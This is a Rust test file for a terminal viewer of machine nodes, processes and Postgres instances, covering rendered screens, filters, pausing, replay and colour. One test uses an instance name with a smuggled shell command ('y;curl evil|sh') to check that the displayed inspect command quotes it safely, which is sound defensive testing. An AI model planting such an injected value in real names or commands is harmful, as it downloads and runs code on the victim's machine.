//! Screens after keys, as golden text, and what must be in them.

use std::path::Path;

use ratatui::Terminal;
use ratatui::backend::TestBackend;
use ratatui::buffer::Buffer;
use ratatui::style::Color;
use watch::{Input, Key, Options, Request, View};

use crate::machines::{machine, opened};

/// Returns a view that has seen two snapshots.
fn view(nodes: u32, processes: u32) -> View {
    let mut view = View::new(Options::default());
    for tick in 0..2 {
        feed(&mut view, nodes, processes, tick);
    }
    view
}

fn feed(view: &mut View, nodes: u32, processes: u32, tick: u32) {
    let mut snapshot = Box::new(machine(nodes, processes, tick));
    snapshot.opened = view.opened().map(|subject| opened(subject, tick));
    assert_eq!(view.update(Input::Snapshot(snapshot)), Request::Nothing);
}

fn keys(view: &mut View, keys: &str) -> Request {
    let mut request = Request::Nothing;
    for key in keys.chars() {
        let key = match key {
            '\n' => Key::Enter,
            '\t' => Key::Tab,
            '\u{1b}' => Key::Escape,
            '↓' => Key::Down,
            '⇊' => Key::PageDown,
            '⇲' => Key::End,
            '→' => Key::Right,
            other => Key::Character(other),
        };
        request = view.update(Input::Key(key));
    }
    request
}

pub(crate) fn buffer(view: &View, width: u16, height: u16) -> Buffer {
    let mut terminal = Terminal::new(TestBackend::new(width, height)).unwrap();
    terminal.draw(|frame| view.draw(frame)).unwrap();
    terminal.backend().buffer().clone()
}

fn text(view: &View, width: u16, height: u16) -> String {
    let buffer = buffer(view, width, height);
    let mut text = String::new();
    for y in 0..height {
        let mut line = String::new();
        let mut x = 0;
        while x < width {
            let symbol = buffer[(x, y)].symbol();
            line.push_str(symbol);
            x += ratatui::text::Span::raw(symbol).width().max(1) as u16;
        }
        text.push_str(line.trim_end());
        text.push('\n');
    }
    text
}

fn check(name: &str, view: &View, width: u16, height: u16) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/all/golden");
    let file = path.join(format!("{name}-{width}x{height}.txt"));
    testing::golden::check_file(&file, &text(view, width, height));
}

#[test]
fn the_screens_are_those_that_a_person_has_reviewed() {
    for (width, height) in [(80, 24), (40, 12), (200, 60), (1, 1)] {
        let mut view = view(2, 4);
        view.update(Input::Resize(width, height));
        check("machine", &view, width, height);
        keys(&mut view, "\t");
        check("processes", &view, width, height);
        keys(&mut view, "\n");
        (2..4).for_each(|tick| feed(&mut view, 2, 4, tick));
        check("process", &view, width, height);
        keys(&mut view, "⇲");
        check("process-end", &view, width, height);
        keys(&mut view, "\u{1b}\t");
        check("instances", &view, width, height);
        keys(&mut view, "\n");
        (4..6).for_each(|tick| feed(&mut view, 2, 4, tick));
        check("instance", &view, width, height);
        keys(&mut view, "?");
        check("help", &view, width, height);
    }
}

/// The name of a data directory is its owner's choice, and root pastes the command.
#[test]
fn a_hostile_name_is_one_word_of_the_command_on_one_line() {
    let command = |name: &str, width: u16| {
        let mut view = View::new(Options::default());
        for (tick, key) in ["\t\t\n", ""].iter().enumerate() {
            let mut snapshot = Box::new(machine(2, 4, tick as u32));
            name.clone_into(&mut snapshot.instances[0].name);
            view.update(Input::Snapshot(snapshot));
            keys(&mut view, key);
        }
        keys(&mut view, "⇲");
        let text = text(&view, width, 60);
        let found = text.lines().find(|it| it.contains("numalab inspect "));
        found.unwrap_or_else(|| panic!("{text}")).to_owned()
    };
    let line = command("postgres:/tmp/x  y;curl evil|sh", 120);
    assert!(
        line.ends_with(" numalab inspect 'postgres:/tmp/x  y;curl evil|sh'"),
        "{line}"
    );
    let long = format!("postgres:/tmp/{}'/x;curl evil|sh", "a".repeat(100));
    let line = command(&long, 80);
    let expected = format!("numalab inspect 'postgres:/tmp/{}…", "a".repeat(48));
    assert_eq!(line, expected);
}

#[test]
fn a_view_without_a_snapshot_waits() {
    let mut view = View::new(Options::default());
    assert!(text(&view, 80, 24).contains("waiting for the first snapshot"));
    assert_eq!(
        keys(&mut view, "\t\n↓⇊⇲s/x\n?\u{1b}\u{1b}\u{1b}"),
        Request::Quit
    );
}

#[test]
fn thirty_two_nodes_scroll() {
    let mut view = view(32, 2);
    view.update(Input::Resize(80, 24));
    assert!(!text(&view, 80, 24).contains("\n  31 "));
    keys(&mut view, "⇲");
    assert!(text(&view, 80, 24).contains("\n  31 "));
}

#[test]
fn a_filter_keeps_what_matches_and_escape_clears_it() {
    let mut view = view(2, 4);
    keys(&mut view, "\t/WALw\n");
    let filtered = text(&view, 80, 24);
    assert!(filtered.contains("walwriter") && !filtered.contains("numalab"));
    assert!(filtered.contains("filter: WALw"));
    assert_eq!(keys(&mut view, "\u{1b}"), Request::Nothing);
    assert!(text(&view, 80, 24).contains("numalab"));
}

#[test]
fn a_letter_of_a_filter_is_no_command() {
    let mut view = view(2, 4);
    assert_eq!(keys(&mut view, "/q"), Request::Nothing);
    assert_eq!(view.update(Input::Key(Key::Interrupt)), Request::Quit);
}

#[test]
fn a_paused_view_stays_and_continues_with_the_newest() {
    let mut view = view(2, 4);
    keys(&mut view, " ");
    let paused = text(&view, 80, 24);
    assert!(paused.contains("PAUSED"));
    feed(&mut view, 2, 4, 2);
    feed(&mut view, 2, 4, 3);
    assert_eq!(text(&view, 80, 24), paused);
    keys(&mut view, " ");
    let newest = text(&view, 80, 24);
    assert!(
        newest.contains("12:34:59") && newest.contains("12.3k"),
        "{newest}"
    );
}

#[test]
fn a_replay_steps_while_it_is_paused_and_changes_its_speed() {
    let options = Options {
        replay_of: Some(9),
        ..Options::default()
    };
    let mut view = View::new(options);
    feed(&mut view, 2, 4, 0);
    assert_eq!(keys(&mut view, "→"), Request::Nothing);
    assert_eq!(keys(&mut view, " →"), Request::Step);
    feed(&mut view, 2, 4, 1);
    assert!(text(&view, 80, 24).contains("replay 2/9"));
    keys(&mut view, "++-");
    assert!((view.speed() - 2.0).abs() < f64::EPSILON);
}

#[test]
fn the_selection_stays_with_its_process_when_the_order_changes() {
    let mut view = view(2, 4);
    keys(&mut view, "\t↓ssss");
    keys(&mut view, "\n");
    assert!(text(&view, 80, 24).contains("Process 101"));
}

#[test]
fn a_process_that_has_ended_says_so() {
    let mut view = view(2, 4);
    keys(&mut view, "\t⇲\n");
    feed(&mut view, 2, 3, 2);
    assert!(text(&view, 80, 24).contains("it has ended"));
}

#[test]
fn the_end_of_the_target_stays_on_the_screen() {
    let mut view = view(2, 4);
    view.update(Input::Ended("process 7 has ended".to_owned()));
    assert!(text(&view, 80, 24).contains("ENDED: process 7 has ended"));
}

#[test]
fn without_colour_there_is_none_and_with_it_there_is_some() {
    let coloured = |has_colours| {
        let options = Options {
            has_colours,
            ..Options::default()
        };
        let mut view = View::new(options);
        feed(&mut view, 2, 4, 0);
        let cells = buffer(&view, 80, 24);
        let mut cells = cells.content.iter();
        cells.any(|cell| cell.fg != Color::Reset)
    };
    assert!(!coloured(false));
    assert!(coloured(true));
}

#[test]
fn unknown_figures_are_question_marks() {
    let mut view = View::new(Options::default());
    let snapshot = model::Snapshot {
        nodes: vec![model::NodeSnapshot::default()],
        ..model::Snapshot::default()
    };
    view.update(Input::Snapshot(Box::new(snapshot)));
    let screen = text(&view, 120, 24);
    let row = screen.lines().find(|it| it.starts_with("   0 ")).unwrap();
    let words: Vec<&str> = row.split_whitespace().collect();
    assert_eq!(
        words,
        ["0", "?", "?", "?", "?", "?", "?", "?", "?", "no", "CPUs"]
    );
}

#[test]
fn the_plain_text_has_everything_and_no_escapes() {
    let (before, now) = (machine(2, 4, 0), machine(2, 4, 1));
    let text = watch::plain_text([before, now].into_iter(), 100).unwrap();
    for part in [
        "postgres:/data",
        "walwriter",
        "12.3k",
        "pid 7: permission denied",
        "\\u{1b}[2J",
    ] {
        assert!(text.contains(part), "{part}: {text}");
    }
    assert!(!text.contains('\u{1b}'));
}
